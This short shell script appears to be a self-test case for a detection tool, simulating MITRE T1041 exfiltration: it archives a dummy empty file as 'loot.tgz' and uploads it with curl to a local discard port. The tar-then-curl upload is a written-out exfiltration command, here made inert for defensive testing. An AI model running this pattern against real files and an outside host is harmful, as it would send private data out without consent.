#!/bin/sh
# rule: Packed, then sent
# technique: T1041
# case: tar, then curl, to nobody
# needs: tar, curl

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
mkdir tree && : > tree/file && tar czf loot.tgz tree
curl -s -m 1 -T loot.tgz http://127.0.0.1:9/
true
